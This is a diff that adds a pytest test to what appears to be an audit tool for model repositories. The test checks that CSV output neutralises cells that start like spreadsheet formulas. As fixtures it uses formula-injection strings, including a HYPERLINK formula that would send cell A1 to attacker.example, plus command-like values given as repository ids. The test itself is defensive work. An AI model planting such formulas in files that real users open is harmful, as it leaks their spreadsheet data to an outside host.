@@ -7,6 +7,8 @@ that a spreadsheet would run. Memory is measured in an audit process of its own 
 /proc/self/status).
 """
 
+import csv
+import io
 import json
 import os
 import struct
@@ -214,6 +216,38 @@ def test_a_server_that_ignores_range_sends_no_more_than_the_header(local_hub, tm
     assert sorted(asked) == [("hostile/long-header", 206), ("hostile/long-header", 206),
                              ("hostile/no-range", 200),
                              ("hostile/no-range-long-header", 200), ("hostile/no-range-long-header", 200)]
+
+
+# --------------------------------------------------------------------------- 16: CSV injection
+
+
+def test_csv_cells_that_start_like_a_formula_are_neutralised(local_hub, tmp_path):
+    formulas = ['=HYPERLINK("http://attacker.example/?leak="&A1,"Click")', "+1+1", "-1+1", "@SUM(1,1)",
+                "\t=1+1", "\r=1+1"]
+    repos = [make_repo(f"hostile/formula-{i}", {"README.md": f"---\nbase_model: {json.dumps(f)}\n---\n# M\n".encode()})
+             for i, f in enumerate(formulas)]
+    bad_ids = ["=SUM(1+1)", "+cmd", "-cmd", "@cmd"]  # not ids huggingface_hub accepts: failed records
+    local_hub(repos)
+    out = tmp_path / "audit.csv"
+    audit("--format", "csv", "-o", str(out), "--", *(r.repo_id for r in repos), *bad_ids)
+
+    rows = list(csv.DictReader(io.StringIO(out.read_text(encoding="utf-8"), newline="")))
+    assert len(rows) == len(repos) + len(bad_ids)
+    for row in rows:
+        for column, cell in row.items():
+            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), (column, cell)
+    by_id = {row["repo_id"]: row for row in rows}
+    for repo, formula in zip(repos, formulas):
+        # A CR in a cell is written as a line feed: unquoted, readers would end the row there.
+        assert by_id[repo.repo_id]["base_model"] == "'" + formula.replace("\r", "\n")
+    assert {f"'{i}" for i in bad_ids} <= set(by_id)
+    assert all(by_id[f"'{i}"]["error_reason"] == "invalid id" for i in bad_ids)
+
+    # JSON keeps the exact text.
+    records, _ = jsonl(audit("--format", "jsonl", "--", *(r.repo_id for r in repos), *bad_ids).stdout)
+    for repo, formula in zip(repos, formulas):
+        assert next(f["value"] for f in records[repo.repo_id]["facts"] if f["quantity"] == "base_model") == formula
+    assert set(bad_ids) <= set(records)
 
 
 # --------------------------------------------------------------------------- 17: one unreadable header
